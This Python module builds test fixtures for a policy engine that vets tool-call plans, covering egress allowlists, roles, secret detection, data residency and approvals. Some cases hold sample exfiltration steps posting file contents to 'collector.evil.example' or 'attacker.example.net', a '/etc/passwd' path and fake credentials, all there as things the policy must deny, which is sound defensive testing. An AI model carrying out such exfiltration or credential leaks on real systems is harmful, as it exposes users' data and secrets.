"""Regenerate the policy fixtures' inputs from readable plans: ``python -m tests.support.make_policy_fixtures``.

Each case is a plan (or one resolved call) plus the expected verdict; the input
document is what ``build_policy_input`` makes of it, frozen into the fixture.
"""

from __future__ import annotations

import argparse
import json
import sys
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from planner.plan import Plan, TemplateOrigin
from policies.bundle import SHIPPED_FIXTURES
from policies.contracts import PolicyContext, Requester, StepCall, TemplateCheck
from policies.inputs import build_policy_input, build_step_input

from .policy_tools import policy_registry

TUESDAY_10 = datetime(2024, 6, 4, 10, 0, tzinfo=UTC)
TUESDAY_22 = datetime(2024, 6, 4, 22, 0, tzinfo=UTC)
SATURDAY_10 = datetime(2024, 6, 8, 10, 0, tzinfo=UTC)
ALICE = Requester(id="alice", roles=("analyst",))
ADMIN = Requester(id="root", roles=("admin",))
APPROVER = Requester(id="bob", roles=("approver",))


def s(id: str, tool: str, **args: Any) -> dict[str, Any]:  # noqa: A002 - mirrors the wire field
    """A step dict."""
    return {"id": id, "tool": tool, "args": args}


def ref(path: str) -> dict[str, str]:
    """A reference."""
    return {"ref": path}


def post(id: str, url: Any, body: Any = None, **extra: Any) -> dict[str, Any]:  # noqa: A002
    """An http.request POST step."""
    args: dict[str, Any] = {"method": "POST", "url": url, **extra}
    if body is not None:
        args["json"] = body
    return {"id": id, "tool": "http.request", "args": args}


READ = s("load", "files.read", path="sales.csv")
TOTAL = s("total", "table.aggregate", csv=ref("load.text"), column="amount", op="sum")

PLAN_CASES: dict[str, dict[str, Any]] = {
    "read_only_plan_is_allowed_without_approval": dict(
        steps=[READ, TOTAL], expected={"allow": True, "approvals": {"count": 0}, "deny_count": 0}),
    "write_step_needs_one_approval": dict(
        steps=[READ, s("save", "files.write", path="out.txt", text=ref("load.text"))],
        expected={"allow": True, "approvals": {"count": 1}, "notes_contains": ["change the world: save"]}),
    "unknown_tool_is_denied": dict(
        steps=[s("x", "shell.exec", cmd="ls")],
        expected={"allow": False, "deny_contains": ["step x: tool shell.exec is not registered"]}),
    "role_without_the_tool_is_denied": dict(
        steps=[s("export", "warehouse.export", table="sales")], now=TUESDAY_22,
        expected={"allow": False, "deny_contains": ["step export: alice (roles: analyst) may not use tool warehouse.export"]}),
    "author_without_the_tool_is_denied": dict(
        steps=[s("export", "warehouse.export", table="sales")], now=TUESDAY_22,
        requester=ADMIN, author=ALICE,
        expected={"allow": False, "deny_count": 1, "deny_contains": [
            "step export: alice (roles: analyst), who wrote this version, may not use tool warehouse.export"]}),
    "author_with_the_tool_does_not_lend_it_to_the_requester": dict(
        steps=[s("export", "warehouse.export", table="sales")], now=TUESDAY_22, author=ADMIN,
        expected={"allow": False, "deny_count": 1, "deny_excludes": ["root"], "deny_contains": [
            "step export: alice (roles: analyst) may not use tool warehouse.export"]}),
    "reviser_is_judged_only_for_the_tools_they_add": dict(
        steps=[s("note", "crm.note", text="customer called"),
               s("customers", "crm.read_eu", segment="churned")],
        author=APPROVER, added_tools=["crm.read_eu"],
        expected={"allow": False, "deny_count": 1, "deny_excludes": ["crm.note"], "deny_contains": [
            "step customers: bob (roles: approver), who wrote this version, may not use tool crm.read_eu"]}),
    "requester_without_roles_is_denied": dict(
        steps=[READ], requester=Requester(id="mallory", roles=()),
        expected={"allow": False, "deny_contains": ["mallory (roles: ) may not use tool files.read"]}),
    "egress_to_unlisted_host_is_denied": dict(
        steps=[READ, post("send", "https://collector.evil.example/upload", ref("load.text"))],
        expected={"allow": False, "deny_contains": ["step send: host collector.evil.example is not on the egress allowlist"]}),
    "egress_wildcard_matches_subdomains": dict(
        steps=[READ, TOTAL, post("post", "https://finance.hooks.example.com/in", {"total": ref("total.value")})],
        expected={"allow": True, "approvals": {"count": 1}, "notes_contains": ["step post: calls finance.hooks.example.com (write)"]}),
    "egress_wildcard_does_not_match_the_bare_domain": dict(
        steps=[post("post", "https://hooks.example.com/in", {"x": 1})],
        expected={"allow": False, "deny_contains": ["host hooks.example.com is not on the egress allowlist"]}),
    "egress_get_is_a_read_with_no_approval": dict(
        steps=[s("get", "http.request", url="https://api.internal.example/rates")],
        expected={"allow": True, "approvals": {"count": 0}}),
    "url_from_reference_is_checked_at_run_time": dict(
        steps=[s("cfg", "http.request", url="https://api.internal.example/config"),
               post("post", ref("cfg.json.webhook"), {"ok": True})],
        expected={"allow": True, "runtime_checks": ["post"],
                  "notes_contains": ["step post: its URL comes from cfg.json.webhook"]}),
    "aws_key_in_args_is_denied_without_echo": dict(
        steps=[post("post", "https://x.hooks.example.com/in", {"key": "AKIAIOSFODNN7EXAMPLE"})],
        expected={"allow": False, "deny_contains": ["step post: argument $.args.json.key contains an AWS access key"],
                  "deny_excludes": ["AKIAIOSFODNN7EXAMPLE"]}),
    "api_token_in_header_is_denied": dict(
        steps=[post("post", "https://x.hooks.example.com/in", {"a": 1},
                    headers={"Authorization": "Bearer sk-live-4f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c"})],
        expected={"allow": False, "deny_contains": ["argument $.args.headers.Authorization contains an API key (sk-...)"],
                  "deny_excludes": ["4f9a8b7c6d5e"]}),
    "github_token_is_denied": dict(
        steps=[post("post", "https://x.hooks.example.com/in", {"t": "ghp_" + "aB3dE5gH7jK9mN1pQ3sT5vX7zA9cE1gH3jK5"})],
        expected={"allow": False, "deny_contains": ["contains a GitHub token"], "deny_excludes": ["ghp_"]}),
    "private_key_is_denied": dict(
        steps=[s("save", "files.write", path="k.pem", text="-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE KEY-----")],
        expected={"allow": False, "deny_contains": ["contains a private key"], "deny_excludes": ["MIIEow"]}),
    "password_in_url_is_denied": dict(
        steps=[s("get", "http.request", url="https://bob:hunter2@api.internal.example/x")],
        expected={"allow": False, "deny_contains": ["contains a password inside a URL"], "deny_excludes": ["hunter2"]}),
    "credential_in_a_url_query_is_denied": dict(
        steps=[s("get", "http.request", url="https://api.internal.example/b?page=2&api_key=f8Kq2LmZx9Pw3RtY7vBn")],
        expected={"allow": False, "deny_count": 1, "deny_contains": [
            "step get: argument $.args.url carries a literal credential in URL parameter api_key"],
                  "deny_excludes": ["f8Kq2LmZx9Pw3RtY7vBn"]}),
    "short_credential_in_a_url_query_is_denied": dict(
        steps=[s("get", "http.request", url="https://api.internal.example/b?token=hunter2")],
        expected={"allow": False, "deny_contains": ["in URL parameter token"],
                  "deny_excludes": ["hunter2"]}),
    "credential_in_a_url_fragment_inside_a_text_is_denied": dict(
        steps=[s("save", "files.write", path="links.md",
                 text="callback: https://app.example/cb#state=x&access_token=Zq8kLp2vR7xN4")],
        expected={"allow": False, "deny_contains": [
            "step save: argument $.args.text carries a literal credential in URL parameter access_token"],
                  "deny_excludes": ["Zq8kLp2vR7xN4"]}),
    "ordinary_url_parameters_are_allowed": dict(
        steps=[s("get", "http.request", url="https://api.internal.example/search?keyword=sales"
                 "&author=bob&design=x&session=spring-2025&token_id=7&api_key=")],
        expected={"allow": True, "deny_count": 0}),
    "pagination_cursors_and_keys_of_rows_in_a_url_are_allowed": dict(
        steps=[s("get", "http.request", url="https://api.internal.example/items?page_token=eyJvIjo1MH0"
                 "&nextToken=AAMA-EFRSURBSGh&continuation_token=c2Vl&sort_key=created"
                 "&partitionKey=eu-1&idempotency_key=9f1c2e7a-4b&user_id=42")],
        expected={"allow": True, "deny_count": 0}),
    "credential_in_the_query_argument_is_denied": dict(
        steps=[s("get", "http.request", url="https://api.internal.example/b",
                 query={"page": 2, "key": "AIzaSyABCDEFGHIJ"})],
        expected={"allow": False, "deny_contains": [
            "step get: argument $.args.query.key carries a literal credential in URL parameter key"],
                  "deny_excludes": ["AIzaSyABCDEFGHIJ"]}),
    "secret_reference_in_a_url_query_is_judged_by_its_destinations": dict(
        steps=[s("get", "http.request", url="https://api.internal.example/b?token=${secret:HOOK_TOKEN}")],
        expected={"allow": False, "deny_count": 1, "deny_contains": [
            "step get: secret HOOK_TOKEN may not be sent to host api.internal.example"]}),
    "random_value_under_password_key_is_denied": dict(
        steps=[post("post", "https://x.hooks.example.com/login", {"user": "svc", "password": "Zq8#kLp2!vR7@xN4"})],
        expected={"allow": False, "deny_contains": ["argument $.args.json.password looks like a literal secret (password)"],
                  "deny_excludes": ["Zq8#kLp2"]}),
    # Credential names are read case and separators aside (X-API-Key, api-key: api_key),
    # the short ones as the key's last words, an Authorization value after its scheme.
    "api_keys_in_headers_named_with_dashes_are_denied": dict(
        steps=[s("get", "http.request", url="https://api.internal.example/a",
                 headers={"X-API-Key": "a8f5f167f44f4964e6c998dee827110c",
                          "api-key": "Zk3x9QpL2mWv8RtY6nBc4HsJ"})],
        expected={"allow": False, "deny_count": 2, "deny_contains": [
            "step get: argument $.args.headers.X-API-Key looks like a literal secret (api_key)",
            "step get: argument $.args.headers.api-key looks like a literal secret (api_key)"],
                  "deny_excludes": ["a8f5f167", "Zk3x9QpL"]}),
    "credentials_after_an_authorization_scheme_are_denied": dict(
        steps=[s("get", "http.request", url="https://api.internal.example/a",
                 headers={"Authorization": "Basic YWxpY2U6c3VwZXJzZWNyZXRwYXNzd29yZA==",
                          "Proxy-Authorization": "Token a8f5f167f44f4964e6c998dee827110c",
                          "Cookie": "theme=dark; sessionid=a8f5f167f44f4964e6c998dee827110c"})],
        expected={"allow": False, "deny_count": 3, "deny_contains": [
            "argument $.args.headers.Authorization looks like a literal secret (authorization)",
            "argument $.args.headers.Proxy-Authorization looks like a literal secret (authorization)",
            "argument $.args.headers.Cookie looks like a literal secret (cookie)"],
                  "deny_excludes": ["YWxpY2U6", "a8f5f167"]}),
    "random_values_under_short_credential_names_are_denied": dict(
        steps=[post("post", "https://x.hooks.example.com/login",
                    {"user": "svc", "pwd": "Zk3x9QpL2mWv8RtY", "auth": "a8f5f167f44f4964e6c998dee827110c"})],
        expected={"allow": False, "deny_count": 2, "deny_contains": [
            "argument $.args.json.pwd looks like a literal secret (pwd)",
            "argument $.args.json.auth looks like a literal secret (auth)"],
                  "deny_excludes": ["Zk3x9QpL", "a8f5f167"]}),
    "ordinary_keys_with_random_values_are_not_secrets": dict(
        steps=[post("post", "https://x.hooks.example.com/in",
                    {"author": "alice.smith@example.com", "public_key": "MFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE"},
                    headers={"Idempotency-Key": "9f1c2e7a-4b3d-4e5f-8a9b-0c1d2e3f4a5b",
                             "Authorization": "Bearer ${secret:HOOK_TOKEN}"})],
        expected={"allow": True, "deny_count": 0, "approvals": {"count": 1}}),
    "literal_text_beside_a_secret_reference_is_denied": dict(
        steps=[post("post", "https://x.hooks.example.com/in", {"password": "x${secret:HOOK_TOKEN}Zk3x9QpL2mWv8RtY6nBc4HsJ"},
                    headers={"X-Refresh-Token": "${secret:HOOK_TOKEN}Zk3x9QpL2mWv8RtY6nBc4HsJ"})],
        expected={"allow": False, "deny_count": 2, "deny_contains": [
            "argument $.args.headers.X-Refresh-Token looks like a literal secret (token)",
            "argument $.args.json.password looks like a literal secret (password)"],
                  "deny_excludes": ["Zk3x9QpL"]}),
    # Every scheme of IANA's registry: GNAP (RFC 9635) was allowed where DPoP was denied.
    "credential_after_the_gnap_scheme_is_denied": dict(
        steps=[s("get", "http.request", url="https://api.internal.example/a",
                 headers={"Authorization": "GNAP 80UPRY5NM33OMUKMKSKU"})],
        expected={"allow": False, "deny_count": 1, "deny_contains": [
            "argument $.args.headers.Authorization looks like a literal secret (authorization)"],
                  "deny_excludes": ["80UPRY5N"]}),
    "password_in_a_url_with_an_empty_user_is_denied": dict(
        steps=[post("post", "https://x.hooks.example.com/in",
                    {"dsn": "redis://:Zk3x9QpLmN7vB2XyTq8W@cache.internal:6379/0"})],
        expected={"allow": False, "deny_contains": ["a password inside a URL"],
                  "deny_excludes": ["Zk3x9QpL"]}),
    "pgp_private_key_is_denied": dict(
        steps=[s("save", "files.write", path="key.asc",
                 text="-----BEGIN PGP PRIVATE KEY BLOCK-----\n\nlQOYBF3x9QpLmN7vB2XyTq8W\n")],
        expected={"allow": False, "deny_contains": ["a private key"]}),
    # Where a secret is, in ordinary words, is no secret: S3's Key names an object.
    "an_s3_object_key_path_is_not_a_secret": dict(
        steps=[post("post", "https://x.hooks.example.com/in",
                    {"Bucket": "reports", "Key": "2024/q1/sales-report.csv"})],
        expected={"allow": True, "deny_count": 0}),
    "token_in_url_user_information_is_denied": dict(
        steps=[s("get", "http.request", url="https://a8f5f167f44f4964e6c998dee827110c@api.internal.example/a")],
        expected={"allow": False, "deny_count": 1, "deny_contains": [
            "step get: its URL carries credentials before the host (user@host), which would be sent as Basic authentication"],
                  "deny_excludes": ["a8f5f167"]}),
    "configured_secret_reference_is_allowed": dict(
        steps=[post("post", "https://x.hooks.example.com/in", {"a": 1},
                    headers={"Authorization": "Bearer ${secret:HOOK_TOKEN}"})],
        expected={"allow": True, "notes_contains": ["step post: uses configured secret(s) HOOK_TOKEN"]}),
    "secret_not_listed_in_secret_destinations_is_denied": dict(
        steps=[post("post", "https://x.hooks.example.com/in", {"a": 1},
                    headers={"Authorization": "Bearer ${secret:CRM_TOKEN}"})],
        expected={"allow": False, "deny_contains": [
            "step post: secret CRM_TOKEN has no allowed destinations (list it under secret_destinations)"]}),
    "secret_sent_to_an_allowlisted_host_outside_its_destinations_is_denied": dict(
        steps=[post("post", "https://api.internal.example/in", {"a": 1},
                    headers={"Authorization": "Bearer ${secret:HOOK_TOKEN}"})],
        expected={"allow": False, "deny_count": 1, "deny_contains": [
            "step post: secret HOOK_TOKEN may not be sent to host api.internal.example"]}),
    "secret_in_a_step_without_a_url_is_denied": dict(
        steps=[s("save", "files.write", path="token.txt", text="${secret:HOOK_TOKEN}")],
        expected={"allow": False, "deny_contains": [
            "step save: secret HOOK_TOKEN is used, but the step has no URL whose host can be checked"]}),
    "secret_sent_to_a_url_from_a_reference_is_checked_at_run_time": dict(
        steps=[s("cfg", "http.request", url="https://api.internal.example/config"),
               post("post", ref("cfg.json.webhook"), {"ok": True},
                    headers={"Authorization": "Bearer ${secret:HOOK_TOKEN}"})],
        expected={"allow": True, "runtime_checks": ["post"], "notes_contains": [
            "step post: secret HOOK_TOKEN goes to a URL from cfg.json.webhook; its host is checked"]}),
    "eu_data_may_not_go_to_a_us_host": dict(
        steps=[s("read", "crm.read_eu", segment="vip"),
               post("send", "https://ingest.us.example.com/in", ref("read.value"))],
        expected={"allow": False, "deny_contains": ["step send: data from step read (region eu) would go to host ingest.us.example.com in region us"]}),
    "eu_data_may_not_leave_through_an_intermediate_step": dict(
        steps=[s("read", "crm.read_eu", segment="vip"),
               s("pick", "json.query", data=ref("read.value"), expression="rows"),
               post("send", "https://x.hooks.example.com/in", ref("pick.value"))],
        expected={"allow": False, "deny_contains": ["step send: data from step read (region eu) would go to host x.hooks.example.com in no known region"]}),
    "eu_data_may_not_leave_through_a_file_read_back": dict(
        steps=[s("read", "crm.read_eu", segment="vip"),
               s("stash", "files.write", path="stash.txt", text=ref("read.value")),
               {**s("back", "files.read", path="stash.txt"), "depends_on": ["stash"]},
               post("send", "https://ingest.us.example.com/in", ref("back.text"))],
        expected={"allow": False, "deny_contains": ["step send: data from step read (region eu) would go to host ingest.us.example.com in region us"]}),
    "eu_data_may_go_to_an_eu_host": dict(
        steps=[s("read", "crm.read_eu", segment="vip"),
               post("send", "https://ingest.eu.example.com/in", ref("read.value"))],
        expected={"allow": True, "deny_count": 0, "approvals": {"count": 1}}),
    "too_many_steps_is_denied": dict(
        steps=[s(f"r{i}", "files.read", path=f"f{i}.txt") for i in range(51)],
        expected={"allow": False, "deny_contains": ["the plan has 51 steps; at most 50 are allowed"]}),
    "too_many_write_steps_is_denied": dict(
        steps=[s(f"w{i}", "files.write", path=f"f{i}.txt", text="x") for i in range(11)],
        expected={"allow": False, "deny_contains": ["the plan has 11 write steps; at most 10 are allowed"]}),
    "batch_tool_at_peak_is_denied": dict(
        steps=[s("export", "warehouse.export", table="sales")], requester=ADMIN, now=TUESDAY_10,
        expected={"allow": False, "deny_contains": ["step export: warehouse.export is a batch job and may only run off-peak"]}),
    "batch_tool_at_night_is_allowed": dict(
        steps=[s("export", "warehouse.export", table="sales")], requester=ADMIN, now=TUESDAY_22,
        expected={"allow": True, "approvals": {"count": 1}}),
    "batch_tool_at_weekend_is_allowed": dict(
        steps=[s("export", "warehouse.export", table="sales")], requester=ADMIN, now=SATURDAY_10,
        expected={"allow": True}),
    "endpoint_tool_to_an_unlisted_host_is_denied": dict(
        steps=[READ, s("push", "crm.push", url="https://x.hooks.example.com/in",
                       record={"text": ref("load.text")})],
        expected={"allow": False, "deny_contains": [
            "step push: host crm.vendor.example is not on the egress allowlist"]}),
    "endpoint_tool_to_a_listed_host_is_allowed_and_its_write_needs_approval": dict(
        steps=[READ, s("note", "crm.note", text=ref("load.text"))],
        expected={"allow": True, "approvals": {"count": 1}, "deny_count": 0,
                  "notes_contains": ["step note: calls api.internal.example (write)"]}),
    "endpoint_tool_secret_outside_its_destinations_is_denied": dict(
        steps=[s("note", "crm.note", text="token ${secret:HOOK_TOKEN}")],
        expected={"allow": False, "deny_contains": [
            "step note: secret HOOK_TOKEN may not be sent to host api.internal.example"]}),
    "high_risk_needs_two_approvers": dict(
        steps=[s("drop", "db.drop_table", table="customers"),
               post("post", "https://x.hooks.example.com/in", {"dropped": ref("drop.value")})],
        requester=ADMIN,
        expected={"allow": True, "approvals": {"count": 2}, "risk_at_least": 60}),
    "pre_approved_template_in_bounds_needs_no_approval": dict(
        steps=[READ, s("save", "files.write", path="out.txt", text=ref("load.text"))],
        origin=TemplateOrigin(name="copy_file", version=1, params={"path": "sales.csv"}),
        template=TemplateCheck(pre_approved=True, approved_by="carol", within_bounds=True),
        expected={"allow": True, "approvals": {"count": 0}, "notes_contains": ["standard change: made from pre-approved template copy_file v1"]}),
    "pre_approved_template_used_by_its_pre_approver_needs_approval": dict(
        steps=[READ, s("save", "files.write", path="out.txt", text=ref("load.text"))],
        origin=TemplateOrigin(name="copy_file", version=1, params={"path": "sales.csv"}),
        template=TemplateCheck(pre_approved=True, approved_by="alice", within_bounds=True),
        expected={"allow": True, "approvals": {"count": 1}, "notes_contains": ["not a standard change: alice pre-approved template copy_file v1 and asked for or wrote this plan"]}),
    "pre_approved_template_with_nobody_on_record_needs_approval": dict(
        steps=[READ, s("save", "files.write", path="out.txt", text=ref("load.text"))],
        origin=TemplateOrigin(name="copy_file", version=1, params={"path": "sales.csv"}),
        template=TemplateCheck(pre_approved=True, within_bounds=True),
        expected={"allow": True, "approvals": {"count": 1}, "notes_contains": ["not a standard change: nobody is on record as having pre-approved template copy_file v1"]}),
    "read_only_plan_from_a_template_with_nobody_on_record_says_nothing_of_standard_changes": dict(
        steps=[READ],
        origin=TemplateOrigin(name="csv-aggregate", version=1, params={"path": "sales.csv"}),
        template=TemplateCheck(pre_approved=True, within_bounds=True),
        expected={"allow": True, "approvals": {"count": 0},
                  "notes_excludes": ["not a standard change"]}),
    "pre_approved_template_whose_pre_approver_lost_the_role_needs_approval": dict(
        steps=[READ, s("save", "files.write", path="out.txt", text=ref("load.text"))],
        origin=TemplateOrigin(name="copy_file", version=1, params={"path": "sales.csv"}),
        template=TemplateCheck(
            pre_approved=True, approved_by="carol", within_bounds=True,
            pre_approval_problems=("carol no longer has role approver or admin",)),
        expected={"allow": True, "approvals": {"count": 1},
                  "notes_contains": ["not a standard change: the pre-approval of template copy_file v1 no longer counts: carol no longer has role approver or admin; an approver must sign it off"],
                  "notes_excludes": ["standard change: made from"]}),
    "read_only_plan_from_a_template_whose_pre_approver_lost_the_role_says_nothing_of_it": dict(
        steps=[READ],
        origin=TemplateOrigin(name="csv-aggregate", version=1, params={"path": "sales.csv"}),
        template=TemplateCheck(pre_approved=True, approved_by="carol", within_bounds=True,
                               pre_approval_problems=("carol is no longer a declared user",)),
        expected={"allow": True, "approvals": {"count": 0},
                  "notes_excludes": ["standard change"]}),
    "pre_approved_template_out_of_bounds_needs_approval": dict(
        steps=[READ, s("save", "files.write", path="out.txt", text=ref("load.text"))],
        origin=TemplateOrigin(name="copy_file", version=1, params={"path": "/etc/passwd"}),
        template=TemplateCheck(pre_approved=True, within_bounds=False, bound_problems=("path: outside the workspace",)),
        expected={"allow": True, "approvals": {"count": 1}, "notes_contains": ["not a standard change: parameters outside the template's bounds (path: outside the workspace)"]}),
}


def call(step_id: str, tool: str, args: dict[str, Any], **extra: Any) -> StepCall:
    """A resolved call as the executor would check it."""
    registry = policy_registry()
    spec = registry.get(tool)
    return StepCall(run_id="r-1", plan_id="p-1", step_id=step_id, tool=tool,
                    effect=spec.effect_of(args).value, args=args, tags=spec.tags, region=spec.region,
                    endpoint_url=spec.endpoint_url, requester=ALICE, **extra)


STEP_CASES: dict[str, tuple[StepCall, datetime, dict[str, Any]]] = {
    "runtime_attacker_url_is_denied": (
        call("post", "http.request", {"method": "POST", "url": "https://attacker.example.net/x", "json": {"a": 1}}),
        TUESDAY_10, {"allow": False, "deny_contains": ["step post: host attacker.example.net is not on the egress allowlist"]}),
    "runtime_allowed_host_passes": (
        call("post", "http.request", {"method": "POST", "url": "https://x.hooks.example.com/in", "json": {"a": 1}}),
        TUESDAY_10, {"allow": True, "deny_count": 0}),
    "runtime_secret_in_resolved_args_is_denied": (
        call("post", "http.request", {"method": "POST", "url": "https://x.hooks.example.com/in", "body": "key=AKIAIOSFODNN7EXAMPLE"}),
        TUESDAY_10, {"allow": False, "deny_contains": ["contains an AWS access key"], "deny_excludes": ["AKIAIOSFODNN7EXAMPLE"]}),
    "runtime_credential_in_a_resolved_url_is_denied": (
        call("post", "http.request", {"method": "POST", "json": {"a": 1},
                                      "url": "https://x.hooks.example.com/in?access_token=qt-99887766"}),
        TUESDAY_10, {"allow": False, "deny_contains": [
            "step post: argument $.args.url carries a literal credential in URL parameter access_token"],
                     "deny_excludes": ["qt-99887766"]}),
    "runtime_token_in_a_resolved_url_user_information_is_denied": (
        call("post", "http.request", {"method": "POST", "json": {"a": 1},
                                      "url": "https://qt-99887766@x.hooks.example.com/in"}),
        TUESDAY_10, {"allow": False, "deny_contains": [
            "step post: its URL carries credentials before the host (user@host)"],
                     "deny_excludes": ["qt-99887766"]}),
    "runtime_copied_page_with_credential_urls_may_be_written": (
        call("save", "files.write", {"path": "page-copy.html", "text":
             '<a href="https://maps.example.com/js?key=AIzaSyABCDEFGHIJ">map</a> '
             'https://api.example.com/list?page_token=abc'}),
        TUESDAY_10, {"allow": True, "deny_count": 0}),
    "runtime_eu_data_to_us_host_is_denied": (
        call("send", "http.request", {"method": "POST", "url": "https://ingest.us.example.com/in", "json": {}},
             source_regions=("eu",)),
        TUESDAY_10, {"allow": False, "deny_contains": ["step send: data from region eu would go to host ingest.us.example.com in region us"]}),
    # The source's URL came from another step's output: only its resolved host tells its region.
    "runtime_data_from_an_eu_host_named_by_a_reference_to_us_host_is_denied": (
        call("post", "http.request", {"method": "POST", "url": "https://x.us.example.com/in", "body": "rows"},
             source_tools=("http.request", "json.query"), source_hosts=("data.eu.example.com",)),
        TUESDAY_10, {"allow": False, "deny_contains": [
            "step post: data from region eu would go to host x.us.example.com in region us"]}),
    "runtime_secret_to_a_host_outside_its_destinations_is_denied": (
        call("post", "http.request", {"method": "POST", "url": "https://api.internal.example/in",
                                      "headers": {"Authorization": "Bearer ${secret:HOOK_TOKEN}"}}),
        TUESDAY_10, {"allow": False, "deny_contains": [
            "step post: secret HOOK_TOKEN may not be sent to host api.internal.example"]}),
    "runtime_unlisted_secret_is_denied": (
        call("post", "http.request", {"method": "POST", "url": "https://x.hooks.example.com/in",
                                      "headers": {"X-Key": "${secret:CRM_TOKEN}"}}),
        TUESDAY_10, {"allow": False, "deny_contains": ["step post: secret CRM_TOKEN has no allowed destinations"]}),
    "runtime_secret_to_a_listed_host_passes": (
        call("post", "http.request", {"method": "POST", "url": "https://x.hooks.example.com/in",
                                      "headers": {"Authorization": "Bearer ${secret:HOOK_TOKEN}"}}),
        TUESDAY_10, {"allow": True, "deny_count": 0}),
    "runtime_endpoint_tool_to_an_unlisted_host_is_denied": (
        call("push", "crm.push", {"url": "https://x.hooks.example.com/in", "record": {"a": 1}}),
        TUESDAY_10, {"allow": False, "deny_contains": [
            "step push: host crm.vendor.example is not on the egress allowlist"]}),
    "runtime_endpoint_tool_to_a_listed_host_passes": (
        call("note", "crm.note", {"text": "called back"}),
        TUESDAY_10, {"allow": True, "deny_count": 0}),
    "runtime_batch_at_peak_is_denied": (
        call("export", "warehouse.export", {"table": "sales"}),
        TUESDAY_10, {"allow": False, "deny_contains": ["is a batch job and may only run off-peak"]}),
}


def main(argv: list[str] | None = None) -> int:
    """Parse the command line, then write every fixture file (``--help`` writes nothing)."""
    parser = argparse.ArgumentParser(
        prog="python -m tests.support.make_policy_fixtures",
        description="Regenerate the policy fixtures (input documents and expectations) from "
                    "the readable cases in this module, overwriting the files of the same name.")
    parser.add_argument("--dir", type=Path, default=SHIPPED_FIXTURES,
                        help=f"Directory to write the fixtures to (default: {SHIPPED_FIXTURES}).")
    args = parser.parse_args(argv)
    write_fixtures(args.dir)
    return 0


def write_fixtures(directory: Path = SHIPPED_FIXTURES) -> None:
    """Write every fixture file."""
    registry = policy_registry()
    directory.mkdir(parents=True, exist_ok=True)
    for name, case in PLAN_CASES.items():
        plan = Plan.model_validate({"goal": name.replace("_", " "), "steps": case["steps"]})
        document = build_policy_input(
            plan, registry, requester=case.get("requester", ALICE), author=case.get("author"),
            added_tools=case.get("added_tools"),
            context=PolicyContext(now=case.get("now", TUESDAY_10)),
            origin=case.get("origin"), template=case.get("template"))
        _write(directory / f"{name}.json", name, "decision", document, case["expected"])
    for name, (step_call, now, expected) in STEP_CASES.items():
        _write(directory / f"{name}.json", name, "step_decision",
               build_step_input(step_call, now=now), expected)


def _write(path: Path, name: str, entrypoint: str, document: dict[str, Any],
           expected: dict[str, Any]) -> None:
    body = {"description": name.replace("_", " "), "entrypoint": entrypoint,
            "input": document, "expected": expected}
    path.write_text(json.dumps(body, indent=1, sort_keys=True) + "\n", encoding="utf-8")


if __name__ == "__main__":
    sys.exit(main())
